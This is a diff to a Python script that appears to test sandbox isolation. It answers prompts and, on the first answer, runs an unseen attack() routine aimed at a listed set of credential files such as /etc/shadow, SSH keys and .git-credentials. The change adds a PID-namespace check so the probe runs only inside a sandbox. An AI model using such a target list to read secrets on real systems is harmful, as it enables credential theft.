@@ -38,6 +38,13 @@ def say(answer):
     sys.stdout.buffer.flush()
 
 
+def in_own_namespace():
+    """There a program has a small number. Elsewhere nothing is tried: the host is spared."""
+    if os.getpid() >= 100:
+        print("BREACH no namespace of processes of its own", file=sys.stderr)
+    return os.getpid() < 100
+
+
 PATHS = """
 /etc/shadow /etc/gshadow /etc/sudoers /etc/ssh/ssh_host_*_key /etc/ssl/private/*
 /root/.ssh/* /root/.bash_history /root/.netrc /root/.gitconfig /root/.git-credentials /root/.npmrc /root/.pypirc
@@ -62,6 +69,6 @@ def attack():
 
 
 for n, answer in enumerate(answers()):
-    if n == 0:
+    if n == 0 and in_own_namespace():
         attack()
     say(answer)
